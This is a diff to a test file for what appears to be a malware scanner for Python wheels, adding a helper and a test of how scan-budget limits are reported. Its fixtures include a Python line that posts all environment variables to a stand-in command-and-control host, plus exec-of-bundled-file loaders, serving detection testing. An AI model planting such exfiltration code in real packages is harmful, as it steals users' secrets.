@@ -1,3 +1,4 @@
+import type { AnalysisResult } from '@weir/model';
 import { zip } from '@weir/testkit/archive';
 import { expect, test } from 'vitest';
 import { analyzeArtifact } from '../analyze.ts';
@@ -6,13 +7,13 @@ import { createMemoryView } from '../memory-view.ts';
 const SEND = "import os, requests\nrequests.post('https://c2.weir.test', data=dict(os.environ))\n";
 const PLACE = "os.path.join(os.path.dirname(__file__), 'tables.zip')";
 
-/** Rules and files of the threats in a wheel of these files. */
-async function threatsOf(files: Readonly<Record<string, string | Uint8Array>>): Promise<string[]> {
+/** The result for a wheel of these files. */
+async function analyze(files: Readonly<Record<string, string | Uint8Array>>): Promise<AnalysisResult> {
   await using view = createMemoryView({
     'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
     ...files,
   });
-  const { findings } = await analyzeArtifact(
+  return analyzeArtifact(
     view,
     { ecosystem: 'pypi', filename: 'own-1.0-py3-none-any.whl', context: null },
     {
@@ -22,6 +23,11 @@ async function threatsOf(files: Readonly<Record<string, string | Uint8Array>>): 
       now: () => performance.now(),
     },
   );
+}
+
+/** Rules and files of the threats in a wheel of these files. */
+async function threatsOf(files: Readonly<Record<string, string | Uint8Array>>): Promise<string[]> {
+  const { findings } = await analyze(files);
   return findings
     .filter(({ rule }) => rule.startsWith('env-to-network/'))
     .map(({ rule, stage, location }) => `${rule} ${stage} ${location?.file}:${location?.line}`);
@@ -85,4 +91,39 @@ test.each([
   const reads = `import os\nexec(open(os.path.join(os.path.dirname(__file__), 'NOTES.md')).read())\n`;
 
   expect(await threatsOf({ 'own/__init__.py': reads, 'own/NOTES.md': text })).toEqual(threats);
+});
+
+/** Code that imports a module of each of these containers, which lie beside it. */
+function importer(containers: readonly string[], module: string): string {
+  const paths = containers.map(
+    (name) => `sys.path.insert(0, os.path.join(os.path.dirname(__file__), '${name}'))\n`,
+  );
+  return `import os, sys\n${paths.join('')}import ${module}\n`;
+}
+
+test('what a budget leaves unread of the modules that code imports is told, and nothing else', async () => {
+  const many = zip();
+  for (let at = 0; at < 60; at++) many.file(`m${at}.py`, '');
+  many.file('_tables.py', SEND).file('_never_named.py', SEND);
+  const large = zip()
+    .file('_tables.py', `${SEND}${'#'.repeat(1_048_576)}`)
+    .build();
+  const packed = Array.from({ length: 11 }, (_, at) => `part${at}.zip`);
+  const one = zip().file('_tables.py', '').build();
+
+  const results = await Promise.all([
+    analyze({ 'own/__init__.py': importer(['t.zip'], '_tables'), 'own/t.zip': many.build() }),
+    analyze({ 'own/__init__.py': importer(['t.zip'], '_tables'), 'own/t.zip': large }),
+    analyze({
+      'own/__init__.py': importer(packed, '_tables'),
+      ...Object.fromEntries(packed.map((name) => [`own/${name}`, one])),
+    }),
+  ]);
+
+  expect(results.map(({ skipped }) => skipped.map(({ file, reason }) => `${file}: ${reason}`))).toEqual([
+    ['own/t.zip!/_tables.py: more than 60 modules in one container'],
+    ['own/t.zip!/_tables.py: larger than 1048576 bytes'],
+    ['own/part10.zip: more than 10 containers that code imports from'],
+  ]);
+  expect(results.map(({ judgement }) => judgement.verdict)).not.toContain('benign');
 });
